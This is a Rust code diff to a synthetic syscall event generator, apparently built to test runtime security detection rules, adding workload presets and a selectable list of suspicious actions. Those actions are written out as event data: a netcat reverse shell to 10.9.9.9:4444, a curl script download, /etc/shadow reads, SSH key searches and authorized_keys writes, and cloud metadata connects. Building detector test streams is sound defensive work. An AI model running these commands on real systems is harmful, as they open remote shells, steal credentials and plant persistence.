@@ -76,6 +76,143 @@ pub struct SynthConfig {
     pub start_ns: u64,
     /// Nanoseconds between events.
     pub step_ns: u64,
+    /// Event-type mix (relative weights).
+    pub mix: Mix,
+    /// Which suspicious actions the suspicious share draws from (empty: all of them).
+    pub attacks: Vec<Attack>,
+}
+
+/// Relative weights of the kinds of ordinary events. The default is a general-purpose
+/// node; [`Mix::preset`] has a web server, a build node and a database node.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Mix {
+    pub open: u32,
+    pub close: u32,
+    pub connect: u32,
+    pub accept: u32,
+    pub send_recv: u32,
+    pub exec: u32,
+    pub socket: u32,
+    pub unlink_rename: u32,
+    pub dup: u32,
+    pub mkdir: u32,
+    pub chmod: u32,
+    pub clone: u32,
+}
+
+impl Default for Mix {
+    fn default() -> Self {
+        Mix {
+            open: 450,
+            close: 150,
+            connect: 100,
+            accept: 50,
+            send_recv: 80,
+            exec: 40,
+            socket: 30,
+            unlink_rename: 40,
+            dup: 20,
+            mkdir: 15,
+            chmod: 15,
+            clone: 10,
+        }
+    }
+}
+
+impl Mix {
+    /// `general` (the default), `web` (accepts, sends, log writes), `build` (process churn,
+    /// file creation and removal), `db` (file I/O on data files, few processes).
+    pub fn preset(name: &str) -> Option<Mix> {
+        let m = |w: [u32; 12]| Mix {
+            open: w[0],
+            close: w[1],
+            connect: w[2],
+            accept: w[3],
+            send_recv: w[4],
+            exec: w[5],
+            socket: w[6],
+            unlink_rename: w[7],
+            dup: w[8],
+            mkdir: w[9],
+            chmod: w[10],
+            clone: w[11],
+        };
+        Some(match name {
+            "general" => Mix::default(),
+            "web" => m([250, 150, 60, 200, 250, 5, 40, 10, 20, 2, 3, 10]),
+            "build" => m([400, 200, 10, 2, 10, 150, 5, 90, 20, 40, 30, 43]),
+            "db" => m([500, 120, 30, 60, 200, 3, 10, 40, 15, 10, 5, 7]),
+            _ => return None,
+        })
+    }
+
+    fn weights(&self) -> [u32; 12] {
+        [
+            self.open,
+            self.close,
+            self.connect,
+            self.accept,
+            self.send_recv,
+            self.exec,
+            self.socket,
+            self.unlink_rename,
+            self.dup,
+            self.mkdir,
+            self.chmod,
+            self.clone,
+        ]
+    }
+}
+
+/// The suspicious actions of the stream, each aimed at rules users run.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Attack {
+    /// Opens `/etc/shadow` for reading (Sensitive File Access, Read sensitive file untrusted).
+    ShadowRead,
+    /// An interactive `bash -i` (shells in containers).
+    InteractiveShell,
+    /// `nc -e /bin/sh` (Netcat Remote Code Execution in Container).
+    ReverseShell,
+    /// A connect to the cloud metadata address 169.254.169.254.
+    MetadataConnect,
+    /// Appends to `/root/.ssh/authorized_keys`.
+    SshKeyWrite,
+    /// `find / -name id_rsa` (Search Private Keys or Passwords).
+    KeySearch,
+    /// Creates a file under `/usr/bin` (Write below binary dir).
+    BinaryDirWrite,
+    /// `curl` of a script from a raw address.
+    ScriptDownload,
+}
+
+impl Attack {
+    pub const ALL: [Attack; 8] = [
+        Attack::ShadowRead,
+        Attack::InteractiveShell,
+        Attack::ReverseShell,
+        Attack::MetadataConnect,
+        Attack::SshKeyWrite,
+        Attack::KeySearch,
+        Attack::BinaryDirWrite,
+        Attack::ScriptDownload,
+    ];
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Attack::ShadowRead => "shadow-read",
+            Attack::InteractiveShell => "interactive-shell",
+            Attack::ReverseShell => "reverse-shell",
+            Attack::MetadataConnect => "metadata-connect",
+            Attack::SshKeyWrite => "ssh-key-write",
+            Attack::KeySearch => "key-search",
+            Attack::BinaryDirWrite => "binary-dir-write",
+            Attack::ScriptDownload => "script-download",
+        }
+    }
+
+    pub fn from_name(name: &str) -> Option<Attack> {
+        Attack::ALL.into_iter().find(|a| a.name() == name)
+    }
 }
 
 impl Default for SynthConfig {
@@ -86,6 +223,8 @@ impl Default for SynthConfig {
             suspicious_per_mille: 5,
             start_ns: 1_767_225_600_000_000_000,
             step_ns: 1_000,
+            mix: Mix::default(),
+            attacks: Vec::new(),
         }
     }
 }
@@ -380,19 +519,29 @@ impl Generator {
         if self.rng.chance(self.cfg.suspicious_per_mille) {
             return self.suspicious(idx);
         }
-        let roll = self.rng.below(1000);
-        let ev = match roll {
-            0..=449 => self.open(idx),
-            450..=599 => self.close(idx),
-            600..=699 => self.connect(idx),
-            700..=749 => self.accept(idx),
-            750..=829 => self.send_recv(idx),
-            830..=869 => self.exec(idx, None),
-            870..=899 => self.socket(idx),
-            900..=939 => self.unlink_rename(idx),
-            940..=959 => self.dup(idx),
-            960..=974 => self.mkdir(idx),
-            975..=989 => self.chmod(idx),
+        let weights = self.cfg.mix.weights();
+        let total: u32 = weights.iter().sum::<u32>().max(1);
+        let mut roll = self.rng.below(total as usize) as u32;
+        let mut kind = weights.len() - 1;
+        for (i, w) in weights.iter().enumerate() {
+            if roll < *w {
+                kind = i;
+                break;
+            }
+            roll -= w;
+        }
+        let ev = match kind {
+            0 => self.open(idx),
+            1 => self.close(idx),
+            2 => self.connect(idx),
+            3 => self.accept(idx),
+            4 => self.send_recv(idx),
+            5 => self.exec(idx, None),
+            6 => self.socket(idx),
+            7 => self.unlink_rename(idx),
+            8 => self.dup(idx),
+            9 => self.mkdir(idx),
+            10 => self.chmod(idx),
             _ => self.clone_proc(idx),
         };
         self.finish(ev, idx)
@@ -777,24 +926,35 @@ impl Generator {
     }
 
     fn suspicious(&mut self, idx: usize) -> Event {
-        let ev = match self.rng.below(8) {
-            0 => self.open_path(idx, "/etc/shadow", open::O_RDONLY),
-            1 => self.exec(idx, Some(("bash", &["-i"]))),
-            2 => self.exec(idx, Some(("nc", &["-e", "/bin/sh", "10.9.9.9", "4444"]))),
-            3 => self.connect_to(
+        let attack = if self.cfg.attacks.is_empty() {
+            Attack::ALL[self.rng.below(Attack::ALL.len())]
+        } else {
+            self.cfg.attacks[self.rng.below(self.cfg.attacks.len())]
+        };
+        let ev = match attack {
+            Attack::ShadowRead => self.open_path(idx, "/etc/shadow", open::O_RDONLY),
+            Attack::InteractiveShell => self.exec(idx, Some(("bash", &["-i"]))),
+            Attack::ReverseShell => {
+                self.exec(idx, Some(("nc", &["-e", "/bin/sh", "10.9.9.9", "4444"])))
+            }
+            Attack::MetadataConnect => self.connect_to(
                 idx,
                 IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)),
                 80,
                 L4Proto::Tcp,
             ),
-            4 => self.open_path(
+            Attack::SshKeyWrite => self.open_path(
                 idx,
                 "/root/.ssh/authorized_keys",
                 open::O_WRONLY | open::O_APPEND,
             ),
-            5 => self.exec(idx, Some(("find", &["/", "-name", "id_rsa"]))),
-            6 => self.open_path(idx, "/usr/bin/evil", open::O_WRONLY | open::O_CREAT),
-            _ => self.exec(idx, Some(("curl", &["-fsSL", "http://10.9.9.9/x.sh"]))),
+            Attack::KeySearch => self.exec(idx, Some(("find", &["/", "-name", "id_rsa"]))),
+            Attack::BinaryDirWrite => {
+                self.open_path(idx, "/usr/bin/evil", open::O_WRONLY | open::O_CREAT)
+            }
+            Attack::ScriptDownload => {
+                self.exec(idx, Some(("curl", &["-fsSL", "http://10.9.9.9/x.sh"])))
+            }
         };
         self.finish(ev, idx)
     }
